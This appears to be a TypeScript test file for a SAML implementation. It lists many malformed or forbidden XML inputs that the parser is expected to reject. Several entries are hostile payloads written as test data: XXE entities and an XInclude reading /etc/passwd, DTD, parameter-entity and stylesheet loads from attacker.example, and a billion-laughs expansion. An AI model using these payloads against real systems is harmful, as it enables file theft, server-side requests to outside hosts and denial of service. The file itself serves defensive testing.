import { type Attack, over } from "../support/attack.ts";
import { type Base, type Edit, swap } from "../support/build.ts";

const BASES: readonly Base[] = ["assertion", "response"];
const XML = ["xml-forbidden", "xml-malformed"] as const;

const before =
  (prolog: string): Edit =>
  (xml) =>
    prolog + xml;
const behind =
  (epilog: string): Edit =>
  (xml) =>
    xml + epilog;
const inRoot = (content: string): Edit => swap("<samlp:Status>", `${content}<samlp:Status>`);

const LAUGHS = `<!DOCTYPE r [<!ENTITY a "ha"><!ENTITY b "${"&a;".repeat(10)}"><!ENTITY c "${"&b;".repeat(10)}"><!ENTITY d "${"&c;".repeat(10)}">]>`;

const CASES: readonly (readonly [string, Edit])[] = [
  ["a document type", before("<!DOCTYPE Response>")],
  ["a document type from the web", before('<!DOCTYPE r SYSTEM "http://attacker.example/x.dtd">')],
  ["an entity that reads a file", before('<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>')],
  [
    "a parameter entity",
    before('<!DOCTYPE r [<!ENTITY % x SYSTEM "http://attacker.example/"> %x;]>'),
  ],
  ["a billion laughs", before(LAUGHS)],
  ["an attribute default", before('<!DOCTYPE r [<!ATTLIST r ID CDATA "_x">]>')],
  ["a document type behind the root", behind("<!DOCTYPE r>")],
  ["a processing instruction before the root", before("<?x y?>")],
  ["a style sheet", before('<?xml-stylesheet href="http://attacker.example/"?>')],
  ["a processing instruction behind the root", behind("<?x y?>")],
  ["a processing instruction in the root", inRoot("<?x y?>")],
  ["a CDATA section in the root", inRoot("<![CDATA[x]]>")],
  ["an entity of HTML", swap("mallory", "mallory&nbsp;")],
  ["a reference to NUL", swap("mallory", "mallory&#0;")],
  ["a reference to a surrogate", swap("mallory", "mallory&#xD800;")],
  ["a reference beyond Unicode", swap("mallory", "mallory&#x110000;")],
  ["a reference that does not end", swap("mallory", "mallory&#65")],
  ["an ampersand", swap("mallory", "mallory&")],
  ["a CDATA end in text", swap("mallory", "mallory]]>")],
  ["XML 1.1", before('<?xml version="1.1"?>')],
  ["an encoding of another name", before('<?xml version="1.0" encoding="utf-16"?>')],
  ["an encoding that nobody knows", before('<?xml version="1.0" encoding="x-user"?>')],
  ["a declaration behind white space", before(' <?xml version="1.0"?>')],
  ["two declarations", before('<?xml version="1.0"?><?xml version="1.0"?>')],
  ["an attribute twice", swap("<samlp:Response ", '<samlp:Response Version="2.0" ')],
  ["an attribute without quotes", swap('Version="2.0"', "Version=2.0")],
  ["an attribute without value", swap("<samlp:Response ", "<samlp:Response x ")],
  ["attributes without space between them", swap('Version="2.0"', 'Version="2.0"x="y"')],
  ["a less-than in an attribute", swap('Version="2.0"', 'Version="2.0" x="<"')],
  ["an end tag of another name", swap("</samlp:Status>", "</samlp:Statu>")],
  ["no end", (xml) => xml.slice(0, -10)],
  ["no end tag of the root", (xml) => xml.replace(/<\/samlp:Response>$/, "")],
  ["a second root", behind("<x/>")],
  ["text behind the root", behind("x")],
  ["text before the root", before("x")],
  ["NUL behind the root", behind("\u0000")],
  ["two colons in a name", swap("<samlp:Status>", "<samlp:x:Status>")],
  ["nothing but text", () => "hello"],
  ["nothing but white space", () => "  "],
  ["HTML", () => "<!DOCTYPE html><html><body>x</body></html>"],
  ["a crash of the old parser", () => '<a b="1" b="2"/>'],
  ["an end tag alone", () => "</a>"],
  ["a comment that does not end", behind("<!-- ")],
  ["two dashes in a comment", before("<!-- -- -->")],
];

/** Everything in XML that SAML does not need: each is a place where two readers may differ. */
export const xmlSubset: readonly Attack[] = [
  ...CASES.flatMap(([what, sent]) => over(`XML: ${what}`, XML, { sent }, BASES)),
  ...over(
    "XML: an inclusion",
    ["structure-invalid", "signature-invalid"],
    {
      sent: inRoot(
        '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"></xi:include>',
      ),
    },
    BASES,
  ),
  ...over(
    "XML: text in the root",
    ["structure-invalid", "signature-invalid"],
    { sent: inRoot("text") },
    BASES,
  ),
];
